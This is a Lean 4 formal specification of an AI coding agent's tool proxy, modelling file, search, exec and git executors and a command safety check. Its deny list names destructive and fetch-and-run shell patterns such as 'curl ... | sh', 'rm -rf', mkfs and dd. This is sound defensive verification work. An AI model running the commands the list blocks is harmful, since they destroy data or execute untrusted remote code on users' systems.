import Mathlib

/-!
Verification of the agentuity/agent-coder tool-execution core: the
continuation-protocol codec (`ContinuationHandler.parseToolCalls`), the
command safety policy (`isSafeCommand`), the tool executors registry
(`toolExecutors`) and the tool proxy (`ToolProxy.executeToolCall` /
`executeMultipleToolCalls`), shallowly embedded from
`src/cli/tool-proxy.ts` and `src/cli/continuation-handler.ts`.

Strings are modelled as `List Char` (the `Str` abbreviation); JavaScript
platform builtins that the code calls (`JSON.parse`, `path.join`,
`path.dirname`, the filesystem, subprocesses, the Riza client, `diffLines`)
are oracle parameters gathered in a `World` record, and the observable
operations an executor performs are recorded in an `Effect` trace.
-/

namespace AgentCoder

/-- Strings are modelled as lists of characters. -/
abbrev Str := List Char

/-- Embed a Lean string literal into the `Str` model. -/
def str (s : String) : Str := s.data

/-- JavaScript whitespace (the `\s` character class and `String.trim`):
space, tab, line feed, carriage return, vertical tab, form feed, NBSP,
Ogham space mark, the U+2000–U+200A range, line/paragraph separators,
narrow NBSP, medium mathematical space, ideographic space, BOM. -/
def isJsSpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = '\x0b' || c = '\x0c' ||
  c = ' ' || c = ' ' || (' ' ≤ c && c ≤ ' ') ||
  c = ' ' || c = ' ' || c = ' ' || c = ' ' ||
  c = '　' || c = '﻿'

/-- Split `s` at the first (leftmost) occurrence of `pat`:
`splitOnFirst pat s = some (a, b)` means `s = a ++ pat ++ b` and `a` is the
shortest such prefix. Models leftmost literal search. -/
def splitOnFirst (pat : Str) (s : Str) : Option (Str × Str) :=
  if pat.isPrefixOf s then some ([], s.drop pat.length)
  else
    match s with
    | [] => none
    | c :: cs =>
      match splitOnFirst pat cs with
      | some (a, b) => some (c :: a, b)
      | none => none

/-- `String.includes` / substring containment, via leftmost search. -/
def containsSub (pat : Str) (s : Str) : Bool :=
  (splitOnFirst pat s).isSome

/-- Fuel-driven worker for `removeAll` (fuel `≥ s.length` always suffices
for a non-empty pattern). -/
def removeAllAux (pat : Str) : Nat → Str → Str
  | 0, s => s
  | fuel + 1, s =>
    if pat.isPrefixOf s then removeAllAux pat fuel (s.drop pat.length)
    else
      match s with
      | [] => []
      | c :: cs => c :: removeAllAux pat fuel cs

/-- JavaScript `String.replace` with a global literal pattern and empty
replacement: delete every non-overlapping occurrence of `pat`, scanning
left to right and continuing after each deleted match. -/
def removeAll (pat : Str) (s : Str) : Str :=
  removeAllAux pat s.length s

/-- JavaScript `String.trim`: drop `isJsSpace` characters from both ends. -/
def jsTrim (s : Str) : Str :=
  ((s.dropWhile isJsSpace).reverse.dropWhile isJsSpace).reverse

/-- JavaScript `String.split('\n')` (never returns an empty list). -/
def splitNl : Str → List Str
  | [] => [[]]
  | c :: cs =>
    let r := splitNl cs
    if c = '\n' then [] :: r
    else
      match r with
      | h :: t => (c :: h) :: t
      | [] => [[c]]

/-- `Array.prototype.join(sep)`. -/
def joinSep (sep : Str) : List Str → Str
  | [] => []
  | [x] => x
  | x :: xs => x ++ sep ++ joinSep sep xs

/-- Decimal rendering of a natural number (JS number interpolation). -/
def natStr (n : Nat) : Str := (Nat.repr n).data

/-- Decimal rendering of an integer (JS number interpolation). -/
def intStr (n : Int) : Str := (Int.repr n).data

/-- JavaScript truthiness of an optional string (`undefined` and `''` are
falsy). -/
def optTruthy : Option Str → Bool
  | none => false
  | some s => !s.isEmpty

/-- First index of `x` in `l` (`l.length` when absent); models
`Array.prototype.indexOf` for the case where the element is present. -/
def jsIndexOf [BEq α] (x : α) : List α → Nat
  | [] => 0
  | y :: ys => if x == y then 0 else jsIndexOf x ys + 1

/-- `String.toUpperCase` (per-character uppercasing). -/
def jsUpper (s : Str) : Str := s.map Char.toUpper

/-! ## Command Safety Policy (`isSafeCommand`, tool-proxy.ts lines 330-410)

The `BLOCKED_PATTERNS` regexes use only literals, `\s`, `\s+`, `\s*` and
`.*` (no `s` flag, so `.` excludes line terminators).  `RTok` is the token
alphabet of exactly these constructs and `matchP`/`rtest` implement
`RegExp.test` for them: `matchP` tries to match the token sequence at the
start of the string (existentially, which is all `test` observes), and
`rtest` tries every start position left to right. -/

/-- One regex token of the blocked patterns. -/
inductive RTok
  | lit (w : Str)
  | wsOne
  | wsPlus
  | wsStar
  | dotStar
deriving DecidableEq

/-- `.` in a JavaScript regex without the `s` flag: any char except line
terminators. -/
def isDotChar (c : Char) : Bool :=
  !(c = '\n' || c = '\r' || c = ' ' || c = ' ')

/-- Match the token sequence against some prefix of `s` (fuel-driven; fuel
`s.length + toks.length + 1` always suffices since every step consumes a
token or a character). -/
def matchP : Nat → List RTok → Str → Bool
  | _, [], _ => true
  | 0, _ :: _, _ => false
  | fuel + 1, .lit w :: rest, s => w.isPrefixOf s && matchP fuel rest (s.drop w.length)
  | fuel + 1, .wsOne :: rest, s =>
    match s with
    | [] => false
    | c :: cs => isJsSpace c && matchP fuel rest cs
  | fuel + 1, .wsPlus :: rest, s =>
    match s with
    | [] => false
    | c :: cs => isJsSpace c && matchP fuel (.wsStar :: rest) cs
  | fuel + 1, .wsStar :: rest, s =>
    matchP fuel rest s ||
      match s with
      | [] => false
      | c :: cs => isJsSpace c && matchP fuel (.wsStar :: rest) cs
  | fuel + 1, .dotStar :: rest, s =>
    matchP fuel rest s ||
      match s with
      | [] => false
      | c :: cs => isDotChar c && matchP fuel (.dotStar :: rest) cs

/-- `RegExp.test`: try a match at every start position, left to right. -/
def rtest (toks : List RTok) : Str → Bool
  | [] => matchP (toks.length + 1) toks []
  | c :: cs =>
    matchP ((c :: cs).length + toks.length + 1) toks (c :: cs) || rtest toks cs

/-- One entry of `BLOCKED_PATTERNS`: its token form and the text produced
by string-interpolating the RegExp (`/source/`), used in the deny reason. -/
structure BlockedPattern where
  display : Str
  toks : List RTok
deriving DecidableEq

/-- `BLOCKED_PATTERNS` (tool-proxy.ts lines 372-385), in source order. -/
def BLOCKED_PATTERNS : List BlockedPattern :=
  [⟨str "/rm\\s+.*-rf/", [.lit (str "rm"), .wsPlus, .dotStar, .lit (str "-rf")]⟩,
   ⟨str "/sudo/", [.lit (str "sudo")]⟩,
   ⟨str "/su\\s/", [.lit (str "su"), .wsOne]⟩,
   ⟨str "/curl.*\\|.*sh/", [.lit (str "curl"), .dotStar, .lit (str "|"), .dotStar, .lit (str "sh")]⟩,
   ⟨str "/wget.*\\|.*sh/", [.lit (str "wget"), .dotStar, .lit (str "|"), .dotStar, .lit (str "sh")]⟩,
   ⟨str "/>\\s*\\/dev\\//", [.lit (str ">"), .wsStar, .lit (str "/dev/")]⟩,
   ⟨str "/\\/etc\\//", [.lit (str "/etc/")]⟩,
   ⟨str "/\\/bin\\//", [.lit (str "/bin/")]⟩,
   ⟨str "/\\/usr\\//", [.lit (str "/usr/")]⟩,
   ⟨str "/mkfs/", [.lit (str "mkfs")]⟩,
   ⟨str "/fdisk/", [.lit (str "fdisk")]⟩,
   ⟨str "/dd\\s/", [.lit (str "dd"), .wsOne]⟩]

/-- `ALLOWED_COMMANDS` (tool-proxy.ts lines 330-370). -/
def ALLOWED_COMMANDS : List Str :=
  [str "git", str "npm", str "yarn", str "bun", str "pnpm", str "node",
   str "python", str "python3", str "pip", str "pip3", str "cargo",
   str "rustc", str "go", str "tsc", str "deno", str "docker", str "make",
   str "cmake", str "ls", str "pwd", str "cat", str "echo", str "grep",
   str "find", str "wc", str "head", str "tail", str "mkdir", str "touch",
   str "cp", str "mv", str "chmod", str "chown", str "ps", str "kill",
   str "killall", str "jobs", str "bg", str "fg"]

/-- Result of the safety evaluation (`{ safe: boolean; reason?: string }`). -/
structure SafetyCheck where
  safe : Bool
  reason : Option Str
deriving DecidableEq

/-- `isSafeCommand` (tool-proxy.ts lines 387-410): first matching blocked
pattern wins; otherwise the first whitespace-delimited token of the trimmed
command must be in the allowlist. -/
def isSafeCommand (command : Str) : SafetyCheck :=
  match BLOCKED_PATTERNS.find? (fun p => rtest p.toks command) with
  | some p =>
    ⟨false, some (str "Command contains blocked pattern: " ++ p.display)⟩
  | none =>
    let baseCommand := (jsTrim command).takeWhile (fun c => !isJsSpace c)
    if baseCommand.isEmpty || !ALLOWED_COMMANDS.contains baseCommand then
      ⟨false, some (str "Command '" ++
        (if baseCommand.isEmpty then str "empty" else baseCommand) ++
        str "' is not in the allowed list")⟩
    else ⟨true, none⟩

/-! ## Data model (tools/interface.ts) and the oracle world

Tool parameters are embedded as one structure per tool, mirroring the
`ToolParameters<T>` record types; `ToolParams` is their tagged union (a
`ToolCall.parameters` value's variant corresponds to its `toolName`, which
is what the TS `parameters as never` cast asserts).  The literal-typed
discriminator fields (`type: 'tool_call'`, `type: 'tool_calls_required'`,
`type: 'continuation'`) carry no information and are omitted. -/

/-- A JavaScript thrown value as the proxy's catch blocks see it: an
`Error` carrying a message, or any non-`Error` value. -/
inductive Exn
  | jsError (message : Str)
  | nonError
deriving DecidableEq

/-- `error instanceof Error ? error.message : 'Unknown error'`. -/
def Exn.toMessage : Exn → Str
  | .jsError m => m
  | .nonError => str "Unknown error"

structure ReadFileParams where
  path : Str
deriving DecidableEq

structure WriteFileParams where
  path : Str
  content : Str
deriving DecidableEq

structure ListDirectoryParams where
  path : Str
deriving DecidableEq

structure CreateDirectoryParams where
  path : Str
deriving DecidableEq

structure MoveFileParams where
  source : Str
  destination : Str
deriving DecidableEq

structure DeleteFileParams where
  path : Str
  confirm : Option Bool
deriving DecidableEq

structure GrepSearchParams where
  pattern : Str
  path : Option Str
  filePattern : Option Str
  caseSensitive : Option Bool
deriving DecidableEq

structure FindFilesParams where
  pattern : Str
  path : Option Str
  type' : Option Str
deriving DecidableEq

structure ExecuteCodeParams where
  language : Str
  code : Str
  input : Option Str
deriving DecidableEq

structure RunCommandParams where
  command : Str
  workingDir : Option Str
  timeout : Option Int
deriving DecidableEq

structure DiffFilesParams where
  file1 : Str
  file2 : Str
  useDelta : Option Bool
  context : Option Int
deriving DecidableEq

structure GitDiffParams where
  files : Option (List Str)
  staged : Option Bool
  useDelta : Option Bool
  saveToFile : Option Str
deriving DecidableEq

structure SetWorkContextParams where
  goal : Str
  description : Option Str
  files : Option (List Str)
  status : Option Str
deriving DecidableEq

structure GetWorkContextParams where
  includeHistory : Option Bool
deriving DecidableEq

structure ProjectContextParams where
  action : Str
  goal : Option Str
deriving DecidableEq

/-- Tagged union of all tool parameter shapes (the spec's closed catalog),
plus `nullish` for a `parameters` value outside every declared shape —
the batch comes from unvalidated `JSON.parse` output, so `parameters` may
be `null`/`undefined`/garbage.  An executor invoked on such a value
behaves per the engine (it may reject even inside its catch block, e.g.
destructuring a null `params` throws again there); that behaviour is the
`World.untypedCallF` oracle. -/
inductive ToolParams
  | read_file (p : ReadFileParams)
  | write_file (p : WriteFileParams)
  | list_directory (p : ListDirectoryParams)
  | create_directory (p : CreateDirectoryParams)
  | move_file (p : MoveFileParams)
  | delete_file (p : DeleteFileParams)
  | grep_search (p : GrepSearchParams)
  | find_files (p : FindFilesParams)
  | execute_code (p : ExecuteCodeParams)
  | run_command (p : RunCommandParams)
  | diff_files (p : DiffFilesParams)
  | git_diff (p : GitDiffParams)
  | set_work_context (p : SetWorkContextParams)
  | get_work_context (p : GetWorkContextParams)
  | project_context (p : ProjectContextParams)
  | nullish
deriving DecidableEq

/-- `ToolCall` (interface.ts lines 4-9). -/
structure ToolCall where
  id : Str
  toolName : Str
  parameters : ToolParams
deriving DecidableEq

/-- `ToolResult` (interface.ts lines 11-16). -/
structure ToolResult where
  id : Str
  success : Bool
  result : Option Str
  error : Option Str
deriving DecidableEq

/-- `ToolCallsMessage` (interface.ts lines 25-29).  `toolCalls` entries are
`Option ToolCall` because the batch comes from unvalidated `JSON.parse`
output, whose array may contain null/undefined holes — exactly what the
`if (!toolCall) continue` guard in `executeToolCalls` is for. -/
structure ToolCallsMessage where
  toolCalls : List (Option ToolCall)
  sessionId : Str
deriving DecidableEq

/-- `ContinuationRequest` (interface.ts lines 18-23). -/
structure ContinuationRequest where
  sessionId : Str
  toolResults : List ToolResult
  originalMessage : Option Str
deriving DecidableEq

/-- One entry of `readdir(..., { withFileTypes: true })`. -/
structure DirEntry where
  name : Str
  isDir : Bool
deriving DecidableEq

/-- Outcome of `execAsync` as the executors inspect it: fulfilled with
stdout/stderr, or rejected with an `Error` that has a `code` property
(plus captured stdout/stderr), an `Error` without one, or a non-`Error`. -/
inductive ExecResult
  | ok (stdout stderr : Str)
  | errCode (code : Int) (stdout stderr message : Str)
  | errNoCode (message : Str)
  | errNonError
deriving DecidableEq

/-- The generic `error instanceof Error ? error.message : 'Unknown error'`
path applied to a rejected `execAsync`. -/
def ExecResult.message : ExecResult → Str
  | .ok _ _ => []
  | .errCode _ _ _ m => m
  | .errNoCode m => m
  | .errNonError => str "Unknown error"

/-- Result object of `riza.command.exec`. -/
structure RizaResult where
  exitCode : Int
  stdout : Str
  stderr : Str
deriving DecidableEq

/-- Parameters the executor passes to `riza.command.exec`. -/
structure RizaParams where
  language : Str
  code : Str
  input : Option Str
deriving DecidableEq

/-- One part of the `diffLines` library output. -/
structure DiffPart where
  value : Str
  added : Bool
  removed : Bool
deriving DecidableEq

/-- A work-context object as `get_work_context` reads it back from the KV
store (the shape `JSON.parse` is trusted to return). -/
structure WorkContext where
  goal : Str
  description : Option Str
  files : List Str
  status : Str
  timestamp : Int
deriving DecidableEq

/-- The project-info record of `projectContextHandler` results. -/
structure PCInfo where
  ptype : Str
  framework : Option Str
  packageManager : Option Str
deriving DecidableEq

/-- Result of `projectContextHandler` (src/tools/project-context.ts), an
external collaborator of the proxy; modelled as an oracle response. -/
structure PCResult where
  success : Bool
  message : Str
  projectInfo : Option PCInfo
  commands : Option (List Str)
  configPretty : Str
  totalGoals : Option Int
deriving DecidableEq

/-- The work-context object `set_work_context` builds before serializing. -/
structure WorkContextObj where
  goal : Str
  description : Option Str
  files : List Str
  status : Str
  timestamp : Int
  sessionId : Str
deriving DecidableEq

/-- Oracle bundle for every platform builtin and external collaborator the
executors call: `node:path`, `node:fs/promises`, `child_process.exec`, the
Riza client and credential, `diffLines`, `JSON` and `Date`/locale
rendering, the mock KV store's visible lookups, and the
`projectContextHandler` collaborator.  `untypedCallF` is the outcome, as
the proxy's catch observes it, of a registered executor invoked on a
`parameters` value outside its declared shape (it may reject — e.g.
re-destructuring a null `params` in the catch block throws out of the
executor); `protoCallF` is the outcome of invoking an
`Object.prototype`-inherited property other than `toString` as the
executor (engine-specific: `__proto__` is not callable and throws a
TypeError, `valueOf` and friends throw on the undefined receiver,
`constructor` even fulfils with a non-string value, flattened here to a
string stand-in that no theorem inspects). -/
structure World where
  join : Str → Str → Str
  dirname : Str → Str
  readFileF : Str → Except Exn Str
  writeFileF : Str → Str → Except Exn Unit
  readdirF : Str → Except Exn (List DirEntry)
  mkdirF : Str → Except Exn Unit
  renameF : Str → Str → Except Exn Unit
  unlinkF : Str → Except Exn Unit
  execF : Str → Option Str → ExecResult
  rizaKey : Option Str
  rizaExecF : RizaParams → Except Exn RizaResult
  diffLinesF : Str → Str → List DiffPart
  kvGetF : Str → Str → Option Str
  jsonParseCtx : Str → Option WorkContext
  stringifyWC : WorkContextObj → Str
  localeString : Int → Str
  projectContextF : Str → Option Str → PCResult
  now : Int
  untypedCallF : Str → ToolParams → Except Exn Str
  protoCallF : Str → ToolParams → Except Exn Str

/-- The mock execution context handed to every executor (logger and KV
handle omitted: logging is unobservable here and KV traffic is recorded in
the effect trace / answered by the `World` oracle). -/
structure MockContext where
  workingDirectory : Str
deriving DecidableEq

/-- Observable external operations an executor performs, in order. -/
inductive Effect
  | fsRead (path : Str)
  | fsWrite (path : Str) (content : Str)
  | fsReaddir (path : Str)
  | fsMkdir (path : Str)
  | fsRename (source destination : Str)
  | fsUnlink (path : Str)
  | exec (command : Str) (cwd : Option Str)
  | rizaExec (language code : Str)
  | kvSet (namespc key value : Str)
  | kvGet (namespc key : Str)
deriving DecidableEq

/-! ## Tool executors (tool-proxy.ts lines 413-994)

Each executor returns the result string (its whole body is wrapped in
`try/catch` returning a string in both arms, so it never throws for typed
parameters) together with the trace of external operations it performed. -/

namespace toolExecutors

/-- `read_file` (lines 414-429). -/
def read_file (w : World) (ctx : MockContext) (p : ReadFileParams) :
    Str × List Effect :=
  let fullPath := w.join ctx.workingDirectory p.path
  match w.readFileF fullPath with
  | .ok content =>
    (str "File content of " ++ p.path ++ str ":\n```\n" ++ content ++ str "\n```",
     [.fsRead fullPath])
  | .error e =>
    (str "Error reading file " ++ p.path ++ str ": " ++ e.toMessage,
     [.fsRead fullPath])

/-- `write_file` (lines 431-448): recursively create the parent directory,
then write. -/
def write_file (w : World) (ctx : MockContext) (p : WriteFileParams) :
    Str × List Effect :=
  let fullPath := w.join ctx.workingDirectory p.path
  match w.mkdirF (w.dirname fullPath) with
  | .error e =>
    (str "Error writing file " ++ p.path ++ str ": " ++ e.toMessage,
     [.fsMkdir (w.dirname fullPath)])
  | .ok _ =>
    match w.writeFileF fullPath p.content with
    | .ok _ =>
      (str "Successfully wrote content to " ++ p.path,
       [.fsMkdir (w.dirname fullPath), .fsWrite fullPath p.content])
    | .error e =>
      (str "Error writing file " ++ p.path ++ str ": " ++ e.toMessage,
       [.fsMkdir (w.dirname fullPath), .fsWrite fullPath p.content])

/-- `list_directory` (lines 450-470). -/
def list_directory (w : World) (ctx : MockContext) (p : ListDirectoryParams) :
    Str × List Effect :=
  let fullPath := w.join ctx.workingDirectory p.path
  match w.readdirF fullPath with
  | .ok files =>
    (str "Contents of " ++ p.path ++ str ":\n" ++
       joinSep (str "\n")
         (files.map (fun f => (if f.isDir then str "📁 " else str "📄 ") ++ f.name)),
     [.fsReaddir fullPath])
  | .error e =>
    (str "Error listing directory " ++ p.path ++ str ": " ++ e.toMessage,
     [.fsReaddir fullPath])

/-- `create_directory` (lines 472-487). -/
def create_directory (w : World) (ctx : MockContext) (p : CreateDirectoryParams) :
    Str × List Effect :=
  let fullPath := w.join ctx.workingDirectory p.path
  match w.mkdirF fullPath with
  | .ok _ =>
    (str "Successfully created directory " ++ p.path, [.fsMkdir fullPath])
  | .error e =>
    (str "Error creating directory " ++ p.path ++ str ": " ++ e.toMessage,
     [.fsMkdir fullPath])

/-- `move_file` (lines 489-510).  Note: unlike the executors above, it
passes `source`/`destination` to the filesystem as given — they are not
joined with the context's working directory. -/
def move_file (w : World) (_ctx : MockContext) (p : MoveFileParams) :
    Str × List Effect :=
  match w.mkdirF (w.dirname p.destination) with
  | .error e =>
    (str "Error moving file " ++ p.source ++ str " to " ++ p.destination ++
       str ": " ++ e.toMessage,
     [.fsMkdir (w.dirname p.destination)])
  | .ok _ =>
    match w.renameF p.source p.destination with
    | .ok _ =>
      (str "Successfully moved " ++ p.source ++ str " to " ++ p.destination,
       [.fsMkdir (w.dirname p.destination), .fsRename p.source p.destination])
    | .error e =>
      (str "Error moving file " ++ p.source ++ str " to " ++ p.destination ++
         str ": " ++ e.toMessage,
       [.fsMkdir (w.dirname p.destination), .fsRename p.source p.destination])

/-- `delete_file` (lines 512-538): refuses absolute, parent-traversing and
drive-rooted paths; otherwise unlinks the path as given (not joined with
the working directory). -/
def delete_file (w : World) (_ctx : MockContext) (p : DeleteFileParams) :
    Str × List Effect :=
  if (str "/").isPrefixOf p.path || containsSub (str "..") p.path ||
      (str "C:").isPrefixOf p.path then
    (str "❌ Cannot delete system path: " ++ p.path, [])
  else
    match w.unlinkF p.path with
    | .ok _ => (str "Successfully deleted " ++ p.path, [.fsUnlink p.path])
    | .error e =>
      (str "Error deleting file " ++ p.path ++ str ": " ++ e.toMessage,
       [.fsUnlink p.path])

/-- `grep_search` (lines 540-582): shells out to `grep -r`; exit code 1
(no matches) is success. -/
def grep_search (w : World) (_ctx : MockContext) (p : GrepSearchParams) :
    Str × List Effect :=
  let path := p.path.getD (str ".")
  let caseSensitive := p.caseSensitive.getD false
  let command :=
    str "grep -r " ++ (if caseSensitive then [] else str "-i") ++
    str " -n \"" ++ p.pattern ++ str "\"" ++
    (match p.filePattern with
     | some fp => str " --include=\"" ++ fp ++ str "\""
     | none => []) ++
    str " \"" ++ path ++ str "\""
  match w.execF command none with
  | .ok stdout _ =>
    (if (jsTrim stdout).isEmpty then
       str "🔍 No matches found for pattern: " ++ p.pattern
     else
       str "🔍 Search results for \"" ++ p.pattern ++ str "\":\n```\n" ++
         stdout ++ str "\n```",
     [.exec command none])
  | .errCode 1 _ _ _ =>
    (str "🔍 No matches found for pattern: " ++ p.pattern, [.exec command none])
  | e =>
    (str "Error searching for pattern " ++ p.pattern ++ str ": " ++ e.message,
     [.exec command none])

/-- `find_files` (lines 584-616). -/
def find_files (w : World) (_ctx : MockContext) (p : FindFilesParams) :
    Str × List Effect :=
  let path := p.path.getD (str ".")
  let ftype := p.type'.getD (str "file")
  let command :=
    str "find \"" ++ path ++ str "\"" ++
    (if ftype = str "file" then str " -type f"
     else if ftype = str "directory" then str " -type d"
     else []) ++
    str " -name \"" ++ p.pattern ++ str "\""
  match w.execF command none with
  | .ok stdout _ =>
    (if (jsTrim stdout).isEmpty then
       str "📁 No files found matching pattern: " ++ p.pattern
     else
       let files := splitNl (jsTrim stdout)
       str "📁 Found " ++ natStr files.length ++ str " file(s) matching \"" ++
         p.pattern ++ str "\":\n" ++
         joinSep (str "\n") (files.map (fun f => str "• " ++ f)),
     [.exec command none])
  | e =>
    (str "Error finding files with pattern " ++ p.pattern ++ str ": " ++ e.message,
     [.exec command none])

/-- The capability-unavailable text `execute_code` returns when the Riza
credential is missing. -/
def rizaUnavailableMsg : Str :=
  str "❌ Code execution unavailable: RIZA_API_KEY environment variable not set.\n\nTo enable code execution:\n1. Sign up at https://riza.io\n2. Get your API key\n3. Set RIZA_API_KEY environment variable"

/-- `execute_code` (lines 618-662) together with `createRizaClient` (lines
268-276): with no credential, `createRizaClient` throws an error whose
message names RIZA_API_KEY and the inner catch returns the
capability-unavailable text; with a credential, the Riza call is made and
its errors are rethrown to the outer catch (unless they too mention
RIZA_API_KEY). -/
def execute_code (w : World) (_ctx : MockContext) (p : ExecuteCodeParams) :
    Str × List Effect :=
  match w.rizaKey with
  | none => (rizaUnavailableMsg, [])
  | some _ =>
    let input :=
      match p.input with
      | some i => if i.isEmpty then none else some i
      | none => none
    let lang := jsUpper p.language
    match w.rizaExecF ⟨lang, p.code, input⟩ with
    | .ok r =>
      (joinSep (str "\n\n")
        ([str "Code execution completed with exit code: " ++ intStr r.exitCode] ++
         (if r.stdout.isEmpty then [] else [str "stdout:\n" ++ r.stdout]) ++
         (if r.stderr.isEmpty then [] else [str "stderr:\n" ++ r.stderr])),
       [.rizaExec lang p.code])
    | .error e =>
      (if containsSub (str "RIZA_API_KEY") e.toMessage then rizaUnavailableMsg
       else str "Error executing code: " ++ e.toMessage,
       [.rizaExec lang p.code])

/-- `run_command` (lines 664-733): safety check first (blocked commands
never reach the subprocess), then `execAsync` in the resolved working
directory. -/
def run_command (w : World) (ctx : MockContext) (p : RunCommandParams) :
    Str × List Effect :=
  let workingDir := p.workingDir.getD (str ".")
  match isSafeCommand p.command with
  | ⟨false, reason⟩ =>
    (str "❌ Command blocked for safety: " ++ reason.getD (str "undefined"), [])
  | ⟨true, _⟩ =>
    let cwd :=
      if workingDir = str "." then ctx.workingDirectory
      else w.join ctx.workingDirectory workingDir
    match w.execF p.command (some cwd) with
    | .ok stdout stderr =>
      (joinSep (str "\n\n")
        ([str "✅ Command executed successfully: `" ++ p.command ++ str "`"] ++
         (if stdout.isEmpty then []
          else [str "📄 stdout:\n```\n" ++ jsTrim stdout ++ str "\n```"]) ++
         (if stderr.isEmpty then []
          else [str "⚠️ stderr:\n```\n" ++ jsTrim stderr ++ str "\n```"])),
       [.exec p.command (some cwd)])
    | .errCode code stdout stderr _ =>
      (joinSep (str "\n\n")
        ([str "❌ Command failed with exit code " ++ intStr code ++ str ": `" ++
            p.command ++ str "`"] ++
         (if stdout.isEmpty then []
          else [str "📄 stdout:\n```\n" ++ jsTrim stdout ++ str "\n```"]) ++
         (if stderr.isEmpty then []
          else [str "⚠️ stderr:\n```\n" ++ jsTrim stderr ++ str "\n```"])),
       [.exec p.command (some cwd)])
    | .errNoCode m =>
      (if containsSub (str "timeout") m then
         str "⏱️ Command timed out: `" ++ p.command ++ str "`"
       else str "❌ Command execution error: " ++ m,
       [.exec p.command (some cwd)])
    | .errNonError =>
      (str "❌ Unknown error executing command: `" ++ p.command ++ str "`",
       [.exec p.command (some cwd)])

/-- Render one `diffLines` part: each of its lines marked `+`/`-`/space,
skipping an empty line when the first empty line of the part is also its
last line (the source's `lines.indexOf(line) === lines.length - 1` test). -/
def diffPartRender (part : DiffPart) : Str :=
  let lines := splitNl part.value
  let mark :=
    if part.added then str "+" else if part.removed then str "-" else str " "
  (lines.filterMap (fun line =>
    if line.isEmpty && jsIndexOf ([] : Str) lines == lines.length - 1 then none
    else some (mark ++ line ++ str "\n"))).flatten

/-- `diff_files` (lines 735-795): an unreadable argument is treated as
inline content; identical contents short-circuit; otherwise `diffLines`
output is rendered unified-diff style. -/
def diff_files (w : World) (_ctx : MockContext) (p : DiffFilesParams) :
    Str × List Effect :=
  let r1 := w.readFileF p.file1
  let r2 := w.readFileF p.file2
  let content1 := match r1 with | .ok c => c | .error _ => p.file1
  let file1Name := match r1 with | .ok _ => p.file1 | .error _ => str "original"
  let content2 := match r2 with | .ok c => c | .error _ => p.file2
  let file2Name := match r2 with | .ok _ => p.file2 | .error _ => str "modified"
  let effects := [Effect.fsRead p.file1, Effect.fsRead p.file2]
  if content1 = content2 then
    (str "✅ Files are identical: " ++ file1Name ++ str " and " ++ file2Name,
     effects)
  else
    let diff := w.diffLinesF content1 content2
    let diffOutput :=
      str "--- " ++ file1Name ++ str "\n+++ " ++ file2Name ++ str "\n" ++
        (diff.map diffPartRender).flatten
    (str "📄 Diff:\n```diff\n" ++ diffOutput ++ str "\n```", effects)

/-- `git_diff` (lines 797-857). -/
def git_diff (w : World) (_ctx : MockContext) (p : GitDiffParams) :
    Str × List Effect :=
  let files := p.files.getD []
  let staged := p.staged.getD false
  let command :=
    str "git diff" ++ (if staged then str " --cached" else []) ++
    (if files.length > 0 then str " -- " ++ joinSep (str " ") files else [])
  match p.saveToFile with
  | some saveToFile =>
    (match w.execF command none with
     | .ok stdout _ =>
       if (jsTrim stdout).isEmpty then
         ((if staged then str "✅ No staged changes to save"
           else str "✅ No changes to save (working directory is clean)"),
          [.exec command none])
       else
         (match w.writeFileF saveToFile stdout with
          | .ok _ =>
            (str "💾 **Full diff saved to file:** `" ++ saveToFile ++
               str "`\n\n🔍 **View with:** `less " ++ saveToFile ++
               str "` or open in your editor",
             [.exec command none, .fsWrite saveToFile stdout])
          | .error e =>
            (str "❌ Error saving diff to file: " ++ e.toMessage,
             [.exec command none, .fsWrite saveToFile stdout]))
     | e =>
       (str "❌ Error saving diff to file: " ++ e.message, [.exec command none]))
  | none =>
    match w.execF command none with
    | .ok stdout _ =>
      (if (jsTrim stdout).isEmpty then
         (if staged then str "✅ No staged changes to show"
          else str "✅ No changes to show (working directory is clean)")
       else str "📄 **Git Diff**:\n\n```diff\n" ++ stdout ++ str "\n```",
       [.exec command none])
    | .errCode 128 _ _ _ =>
      (str "❌ Not a git repository or git not available", [.exec command none])
    | e =>
      (str "❌ Error running git diff: " ++ e.message, [.exec command none])

/-- `set_work_context` (lines 859-902): writes the current slot and a
history entry to the KV store, then reports. -/
def set_work_context (w : World) (_ctx : MockContext) (p : SetWorkContextParams) :
    Str × List Effect :=
  let files := p.files.getD []
  let status := p.status.getD (str "starting")
  let workContext : WorkContextObj :=
    ⟨p.goal, p.description, files, status, w.now, str "local_session"⟩
  let ser := w.stringifyWC workContext
  (str "🎯 **Work Context Set Successfully**\n\n" ++
     str "**Goal:** " ++ p.goal ++ str "\n" ++
     (if optTruthy p.description then
        str "**Description:** " ++ p.description.getD [] ++ str "\n"
      else []) ++
     (if files.length > 0 then
        str "**Key Files:** " ++ joinSep (str ", ") files ++ str "\n"
      else []) ++
     str "**Status:** " ++ status ++ str "\n" ++
     str "**Session:** " ++ workContext.sessionId ++ str "\n\n" ++
     str "✅ Context saved and will persist across sessions. Use \"What are we working on?\" to recall this context.",
   [.kvSet (str "default") (str "work_context_current") ser,
    .kvSet (str "default") (str "work_context_history_" ++ intStr w.now) ser])

/-- `get_work_context` (lines 904-950): reads the current slot; absence or
unparsable content is the neutral "nothing set" message. -/
def get_work_context (w : World) (_ctx : MockContext) (p : GetWorkContextParams) :
    Str × List Effect :=
  let includeHistory := p.includeHistory.getD false
  let noCtx :=
    str "📝 **No Active Work Context**\n\nNo current work context is set. Use \"Remember that I'm working on [goal]\" to set a context for this session."
  let effects := [Effect.kvGet (str "default") (str "work_context_current")]
  match w.kvGetF (str "default") (str "work_context_current") with
  | none => (noCtx, effects)
  | some data =>
    match w.jsonParseCtx data with
    | none => (noCtx, effects)
    | some c =>
      (str "🎯 **Current Work Context**\n\n" ++
         str "**Goal:** " ++ c.goal ++ str "\n" ++
         (if optTruthy c.description then
            str "**Description:** " ++ c.description.getD [] ++ str "\n"
          else []) ++
         (if c.files.length > 0 then
            str "**Key Files:** " ++ joinSep (str ", ") c.files ++ str "\n"
          else []) ++
         str "**Status:** " ++ c.status ++ str "\n" ++
         str "**Started:** " ++ w.localeString c.timestamp ++ str "\n" ++
         (if includeHistory then
            str "\n📚 **Recent Work History:**\n_History feature available - ask to see previous work sessions_\n"
          else []) ++
         str "\n💡 **Continue working:** You can ask me to continue with this goal or update the context as needed.",
       effects)

/-- `project_context` (lines 952-993): delegates to the
`projectContextHandler` collaborator and formats its result per action. -/
def project_context (w : World) (_ctx : MockContext) (p : ProjectContextParams) :
    Str × List Effect :=
